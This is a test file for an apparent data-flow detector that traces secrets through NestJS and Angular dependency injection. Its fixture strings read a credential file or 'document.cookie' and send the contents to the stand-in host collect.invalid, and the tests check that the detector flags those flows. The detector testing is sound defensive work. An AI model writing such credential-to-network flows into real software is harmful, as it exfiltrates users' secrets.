import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SENT = 'credential-file>network@collect.invalid';

/** A class that sends what it is given, and one that has something to give. */
const CLASSES = `class Reporter { publish(body) { https.request('https://collect.invalid', { method: 'POST' }).end(JSON.stringify(body)); } }
  class Store { all() { return fs.readFileSync(rc, 'utf8'); } }`;

/** What TypeScript writes into a file that has decorators. */
const HELPERS = `var __decorate = (this && this.__decorate) || function (decorators, target, key, desc) {
    var c = arguments.length, r = c < 3 ? target : desc === null ? desc = Object.getOwnPropertyDescriptor(target, key) : desc, d;
    if (typeof Reflect === "object" && typeof Reflect.decorate === "function") r = Reflect.decorate(decorators, target, key, desc);
    else for (var i = decorators.length - 1; i >= 0; i--) if (d = decorators[i]) r = (c < 3 ? d(r) : c > 3 ? d(target, key, r) : d(target, key)) || r;
    return c > 3 && r && Object.defineProperty(target, key, r), r; };
  var __metadata = (this && this.__metadata) || function (k, v) { if (typeof Reflect === "object" && typeof Reflect.metadata === "function") return Reflect.metadata(k, v); };
  var __param = (this && this.__param) || function (index, decorator) { return function (target, key) { decorator(target, key, index); } };`;

const TSLIB = `const { __decorate, __metadata, __param } = require('tslib');`;

describe('what is injected', () => {
  it('is made by factories, for those that ask for it by a name or a class', () => {
    const module = (use: string): readonly string[] =>
      flowsOf(`${CLASSES} exports.forRoot = (options) => ({ providers: [
        { provide: 'REPORTER', useFactory: () => new Reporter() }, Store,
        { provide: 'ANY', inject: [Store, 'REPORTER'], useFactory: (store, reporter) => { ${use} } }] });`);
    assert.deepEqual(module('reporter.publish(store.all());'), [SENT]);
    assert.deepEqual(module('reporter.publish(1); return store;'), []);
  });

  it('goes to constructors, by decorators and by the types of their parameters', () => {
    for (const helpers of [HELPERS, TSLIB]) {
      const service = (asks: string): readonly string[] =>
        flowsOf(`${helpers} const { Injectable, Inject } = require('@nestjs/common'); ${CLASSES}
          let Sync = class Sync { constructor(store, reporter) { this.store = store; this.reporter = reporter; } onModuleInit() { this.reporter.publish(this.store.all()); } };
          Sync = __decorate([Injectable(), ${asks}], Sync); exports.Sync = Sync;
          exports.providers = [{ provide: 'REPORTER', useClass: Reporter }, Sync];`);
      const kept = `let Kept = class Kept { all() { return fs.readFileSync(rc, 'utf8'); } }; Kept = __decorate([Injectable()], Kept);`;
      const asks = `{ provide: 'ANY', inject: [Kept, Reporter], useFactory: (kept, reporter) => reporter.publish(kept.all()) }`;
      assert.deepEqual(
        flowsOf(
          `${helpers} const { Injectable } = require('@nestjs/common'); ${CLASSES} ${kept} exports.providers = [${asks}];`,
        ),
        [SENT],
      );
      assert.deepEqual(service(`__metadata('design:paramtypes', [Store, Reporter])`), [SENT]);
      assert.deepEqual(service(`__param(1, Inject('REPORTER')), __metadata('design:paramtypes', [Store, Object])`), [
        SENT,
      ]);
      assert.deepEqual(service(`__metadata('design:paramtypes', [Object, Reporter])`), []);
    }
  });

  it('is what Angular says of a class', () => {
    const service = `import * as i0 from '@angular/core'; import { inject } from '@angular/core';
      class Reporter { publish(body) { navigator.sendBeacon('https://collect.invalid', JSON.stringify(body)); } }
      class Store { get token() { return document.cookie; } }`;
    const declared = `class Sync { constructor(store) { this.store = store; this.reporter = inject(Reporter); } run() { this.reporter.publish(this.store.token); }
      static ɵfac = i0.ɵɵngDeclareFactory({ type: Sync, deps: [{ token: Store }] }); } export { Sync };`;
    assert.deepEqual(flowsOf(`${service} ${declared}`), ['page-storage>network@collect.invalid']);
  });
});
